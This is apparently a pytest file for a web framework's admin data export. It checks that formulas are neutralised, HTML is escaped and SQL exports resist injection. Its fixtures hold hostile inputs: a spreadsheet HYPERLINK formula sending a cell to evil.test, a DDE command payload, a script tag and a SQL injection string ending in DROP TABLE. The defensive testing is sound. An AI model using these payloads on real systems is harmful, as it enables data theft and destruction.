"""The model views' export, in CSV and tablib's formats, under both protocols."""

from __future__ import annotations

import csv
import html
import io
import json
import os
import sys
from decimal import Decimal
from typing import Any

import openpyxl
import pymysql
import pytest
import tablib
import yaml
from tests.admin.memory_backend import MemoryModelView
from tests.admin.memory_backend import Person
from tests.admin.memory_backend import people
from tests.real_servers import mariadb_database

from hipflask import Hipflask
from hipflask.admin import Admin
from hipflask.admin.model.export import neutralise_csv_cell
from hipflask.errors import ConfigurationError
from hipflask.testing.client import HipflaskClient
from hipflask.testing.client import TestResponse

FORMULA = '=HYPERLINK("https://evil.test/?leak="&A1,"Click")'
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


class PersonView(MemoryModelView):
    can_export = True
    column_filters = ("age",)
    column_default_sort = "id"
    export_types = ["csv", "xlsx", "ods", "tsv", "json", "yaml", "html", "nope"]  # noqa: RUF012


@pytest.fixture
def view() -> PersonView:
    return PersonView(Person, people())


@pytest.fixture
def app(app: Hipflask, view: PersonView) -> Hipflask:
    Admin(app, name="Test").add_view(view)
    return app


def xlsx_cells(response: TestResponse) -> list[list[tuple[Any, str]]]:
    """Every cell of the first sheet as ``(value, openpyxl data type)``."""
    sheet = openpyxl.load_workbook(io.BytesIO(response.get_data())).active
    assert sheet is not None
    return [[(cell.value, cell.data_type) for cell in row] for row in sheet.iter_rows()]


def flashed_after(client: HipflaskClient, response: TestResponse) -> str:
    assert response.status_code == 302
    page = client.get(response.headers["Location"])
    return html.unescape(page.get_data(as_text=True))


# -- CSV ---------------------------------------------------------------------------


def test_csv_export_is_an_attachment_with_formulas_neutralised(
    client: HipflaskClient, view: PersonView
) -> None:
    view.rows[0].name = '=HYPERLINK("https://evil.test","x")'
    view.rows[1].email = "@SUM(1+1)"
    view.rows[2].age = -3

    response = client.get("/admin/person/export/csv/")

    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"].startswith('attachment; filename="Person_')
    table = list(csv.reader(io.StringIO(response.get_data(as_text=True))))
    assert table[0] == ["Name", "Age", "Email"]
    assert len(table) == 6
    assert ['\'=HYPERLINK("https://evil.test","x")', "34", "alice@example.test"] in table
    assert ["Bob", "27", "'@SUM(1+1)"] in table
    assert table[3][1] == "-3"


def test_a_column_hidden_from_the_list_is_not_exported_unless_named(
    client: HipflaskClient, view: PersonView
) -> None:
    # The list hides the column (a password hash, say): the export must not
    # hand it to whoever can click Export.
    view.column_exclude_list = ("email",)
    view._export_columns = view.get_export_columns()

    hidden = client.get("/admin/person/export/csv/").get_data(as_text=True)

    assert hidden.splitlines()[0] == "Name,Age"
    assert "alice@example.test" not in hidden
    # Named for the export, it is exported.
    view.column_export_list = ("name", "email")
    view._export_columns = view.get_export_columns()
    named = client.get("/admin/person/export/csv/").get_data(as_text=True)
    assert named.splitlines()[:2] == ["Name,Email", "Alice,alice@example.test"]


def test_csv_export_follows_the_lists_filters(client: HipflaskClient) -> None:
    listing = client.get("/admin/person/?flt0_0=27&sort=0&page=1").get_data(as_text=True)
    assert 'href="/admin/person/export/csv/?flt0_0=27&amp;sort=0"' in listing

    response = client.get("/admin/person/export/csv/?flt0_0=27")

    table = list(csv.reader(io.StringIO(response.get_data(as_text=True))))
    assert [row[0] for row in table[1:]] == ["Bob", "Eve"]


def test_export_is_refused_when_not_enabled(client: HipflaskClient, view: PersonView) -> None:
    view.can_export = False

    for export_type in ("csv", "xlsx"):
        response = client.get(f"/admin/person/export/{export_type}/")
        assert response.status_code == 302


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+A1", "'-1+A1"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("plain", "plain"),
        (None, ""),
        (b"=bytes", "'=bytes"),
        (12, "12"),
        (-5, "-5"),
        (-2.5, "-2.5"),
        (Decimal("-1.50"), "-1.50"),
        (float("-inf"), "'-inf"),
        (Decimal("-Infinity"), "'-Infinity"),
        # A text that is a plain number is one for a spreadsheet too: no formula.
        ("-5", "-5"),
        ("+1", "+1"),
    ],
)
def test_neutralise_csv_cell(value: Any, expected: str) -> None:
    assert neutralise_csv_cell(value) == expected


# -- tablib's formats --------------------------------------------------------------


def test_the_list_offers_every_export_type(client: HipflaskClient) -> None:
    listing = client.get("/admin/person/").get_data(as_text=True)

    for export_type in ("csv", "xlsx", "json", "yaml"):
        assert f'href="/admin/person/export/{export_type}/"' in listing


@pytest.mark.parametrize(
    ("export_type", "content_type"),
    [
        ("xlsx", XLSX),
        ("ods", "application/vnd.oasis.opendocument.spreadsheet"),
        ("tsv", "text/tab-separated-values; charset=utf-8"),
        ("json", "application/json"),
        ("yaml", "application/yaml"),
        ("html", "text/html; charset=utf-8"),
    ],
)
def test_each_format_is_an_attachment_of_its_type(
    client: HipflaskClient, export_type: str, content_type: str
) -> None:
    response = client.get(f"/admin/person/export/{export_type}/")

    assert response.status_code == 200
    assert response.headers["Content-Type"] == content_type
    disposition = response.headers["Content-Disposition"]
    assert disposition.startswith('attachment; filename="Person_')
    assert disposition.endswith(f'.{export_type}"')


def test_xlsx_holds_the_rows_as_text(client: HipflaskClient) -> None:
    cells = xlsx_cells(client.get("/admin/person/export/xlsx/"))

    assert [[value for value, _type in row] for row in cells] == [
        ["Name", "Age", "Email"],
        ["Alice", "34", "alice@example.test"],
        ["Bob", "27", "bob@example.test"],
        ["Carol", "41", "carol@example.test"],
        ["Dave", "19", "dave@example.test"],
        ["Eve", "27", "eve@example.test"],
    ]


def test_a_stored_formula_is_text_in_the_xlsx_export(
    client: HipflaskClient, view: PersonView
) -> None:
    view.rows[0].name = FORMULA
    view.rows[1].email = "+cmd|' /C calc'!A0"

    cells = xlsx_cells(client.get("/admin/person/export/xlsx/"))

    assert cells[1][0] == ("'" + FORMULA, "s")
    assert cells[2][2] == ("'+cmd|' /C calc'!A0", "s")
    assert all(data_type != "f" for row in cells for _value, data_type in row)


@pytest.mark.parametrize("export_type", ["ods", "tsv", "html"])
def test_a_stored_formula_is_neutralised_in_other_spreadsheet_formats(
    client: HipflaskClient, view: PersonView, export_type: str
) -> None:
    view.rows[0].name = FORMULA
    view.rows[1].name = "@SUM(1+1)"

    response = client.get(f"/admin/person/export/{export_type}/")

    body = response.get_data() if export_type == "ods" else response.get_data(as_text=True)
    dataset = tablib.Dataset().load(body, format=export_type)
    names = [row[0] for row in dataset]
    assert names[:2] == ["'" + FORMULA, "'@SUM(1+1)"]
    assert dataset.headers == ["Name", "Age", "Email"]


@pytest.mark.parametrize("export_type", ["json", "yaml"])
def test_data_formats_keep_values_as_stored(
    client: HipflaskClient, view: PersonView, export_type: str
) -> None:
    # Their readers are programs: no formula runs there, and a quote would change the data.
    view.rows[0].name = FORMULA

    body = client.get(f"/admin/person/export/{export_type}/").get_data(as_text=True)

    records = json.loads(body) if export_type == "json" else yaml.safe_load(body)
    assert records[0] == {"Name": FORMULA, "Age": "34", "Email": "alice@example.test"}
    assert len(records) == 5


def test_stored_markup_is_escaped_in_the_html_export(
    client: HipflaskClient, view: PersonView
) -> None:
    view.rows[0].name = "<script>alert(1)</script>"

    body = client.get("/admin/person/export/html/").get_data(as_text=True)

    assert "<script>" not in body
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in body


def test_a_control_character_in_a_value_does_not_break_the_xlsx_export(
    client: HipflaskClient, view: PersonView
) -> None:
    # XML cannot hold it: openpyxl refuses the value, which would fail the whole file.
    view.rows[0].name = "Al\x0bice\x00"

    xlsx = client.get("/admin/person/export/xlsx/")
    ods = client.get("/admin/person/export/ods/")

    assert xlsx_cells(xlsx)[1][0] == ("Al\ufffdice\ufffd", "s")
    assert tablib.Dataset().load(ods.get_data(), format="ods")[0][0] == "Al\ufffdice\ufffd"


@pytest.mark.parametrize("export_type", ["csv", "tsv", "html", "json", "yaml", "xlsx", "ods"])
def test_an_undecodable_file_name_is_exported_as_a_replacement_character(
    client: HipflaskClient, view: PersonView, export_type: str
) -> None:
    # A name read from the file system keeps its undecodable byte as a lone
    # surrogate, which no UTF-8 file can hold: it must not fail the export.
    view.rows[0].name = os.fsdecode(b"report-\xff.pdf")

    response = client.get(f"/admin/person/export/{export_type}/")

    assert response.status_code == 200
    if export_type in ("xlsx", "ods"):
        cells = [row[0] for row in tablib.Dataset().load(response.get_data(), format=export_type)]
    elif export_type == "yaml":
        cells = [record["Name"] for record in yaml.safe_load(response.get_data(as_text=True))]
    else:
        cells = [response.get_data(as_text=True)]
    assert any("report-\ufffd.pdf" in cell for cell in cells)


def test_data_a_format_cannot_hold_is_flashed_not_a_server_error(
    client: HipflaskClient, view: PersonView
) -> None:
    # dBase field names hold 10 characters: tablib refuses the header.
    view.export_types = [*view.export_types, "dbf"]
    view._export_columns = [("name", "Name of the person"), ("age", "Age")]

    response = client.get("/admin/person/export/dbf/")

    assert response.headers["Location"] == "/admin/person/"
    assert 'The "dbf" export could not be written.' in flashed_after(client, response)


def test_a_stored_backslash_cannot_end_a_string_of_the_sql_export_in_mariadb(
    client: HipflaskClient, view: PersonView
) -> None:
    # tablib doubles quotes only; MariaDB and MySQL read a backslash as an
    # escape, so "\\'" would end the string and run what follows when an
    # administrator replays the export (mysql < export.sql).
    payload = "\\', 1, 2); DROP TABLE victim; -- "
    view.export_types = [*view.export_types, "sql"]
    view.rows[0].name = payload

    script = client.get("/admin/person/export/sql/").get_data(as_text=True)

    with mariadb_database("admin_export") as url:
        database = url.rpartition("/")[2].partition("?")[0]
        conn = pymysql.connect(
            host="127.0.0.1",
            user="root",
            password="",
            database=database,
            autocommit=True,
            client_flag=pymysql.constants.CLIENT.MULTI_STATEMENTS,
        )
        try:
            with conn.cursor() as cursor:
                cursor.execute("CREATE TABLE export_table (Name TEXT, Age TEXT, Email TEXT)")
                cursor.execute("CREATE TABLE victim (x INT)")
                cursor.execute(script)
                while cursor.nextset():
                    pass
                cursor.execute("SHOW TABLES LIKE 'victim'")
                assert cursor.fetchall() == (("victim",),)
                cursor.execute("SELECT Name FROM export_table")
                assert cursor.fetchall()[0] == (payload,)
        finally:
            conn.close()


def test_export_settings_apply_to_every_format(client: HipflaskClient, view: PersonView) -> None:
    view.column_export_list = ("name", "age")
    view._export_columns = view.get_export_columns()
    view.column_formatters_export = {"name": lambda v, c, m, n: m.name.upper()}
    view.column_type_formatters_export = {int: lambda v, value, n: f"{value} years"}
    view.export_max_rows = 2

    body = client.get("/admin/person/export/json/").get_data(as_text=True)

    assert json.loads(body) == [
        {"Name": "ALICE", "Age": "34 years"},
        {"Name": "BOB", "Age": "27 years"},
    ]


def test_a_tablib_export_follows_the_lists_filters_and_sort(client: HipflaskClient) -> None:
    body = client.get("/admin/person/export/json/?flt0_0=27&sort=0&desc=1").get_data(as_text=True)

    assert [record["Name"] for record in json.loads(body)] == ["Eve", "Bob"]


def test_an_empty_list_exports_the_header_only(client: HipflaskClient, view: PersonView) -> None:
    view.rows.clear()

    cells = xlsx_cells(client.get("/admin/person/export/xlsx/"))

    assert cells == [[("Name", "s"), ("Age", "s"), ("Email", "s")]]


def test_a_format_tablib_does_not_know_is_flashed(client: HipflaskClient) -> None:
    response = client.get("/admin/person/export/nope/")

    assert response.headers["Location"] == "/admin/person/"
    assert 'Export type "nope" is not supported.' in flashed_after(client, response)


def test_a_format_not_in_export_types_is_refused(client: HipflaskClient) -> None:
    response = client.get("/admin/person/export/xls/")

    assert "Permission denied." in flashed_after(client, response)


def test_a_tablib_export_goes_back_to_a_local_return_target_only(
    client: HipflaskClient,
) -> None:
    refused = client.get("/admin/person/export/nope/?url=https://evil.test/")
    followed = client.get("/admin/person/export/nope/?url=/admin/person/?page=1")

    assert refused.headers["Location"] == "/admin/person/"
    assert followed.headers["Location"] == "/admin/person/?page=1"


# -- without tablib ----------------------------------------------------------------


@pytest.fixture
def without_tablib(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(sys.modules, "tablib", None)


@pytest.mark.usefixtures("without_tablib")
def test_a_view_naming_a_tablib_format_fails_when_added_without_tablib() -> None:
    app = Hipflask(__name__)
    admin = Admin(app)

    with pytest.raises(ConfigurationError) as raised:
        admin.add_view(PersonView(Person, people()))

    message = str(raised.value)
    assert "PersonView.export_types lists 'xlsx'" in message
    assert "pip install 'hipflask[admin-export]'" in message


@pytest.mark.usefixtures("without_tablib")
def test_the_check_runs_when_the_admin_is_given_its_app_later() -> None:
    admin = Admin()
    admin.add_view(PersonView(Person, people()))

    with pytest.raises(ConfigurationError, match="admin-export"):
        admin.init_app(Hipflask(__name__))


@pytest.mark.usefixtures("without_tablib")
def test_a_csv_only_view_needs_no_tablib(protocol: str) -> None:
    class CsvView(MemoryModelView):
        can_export = True

    app = Hipflask(__name__)
    app.config["SECRET_KEY"] = "a test key that is long enough for sessions"
    Admin(app).add_view(CsvView(Person, people()))

    response = app.test_client(protocol=protocol).get("/admin/person/export/csv/")

    assert response.status_code == 200
    assert response.get_data(as_text=True).startswith("Name,Age,Email")
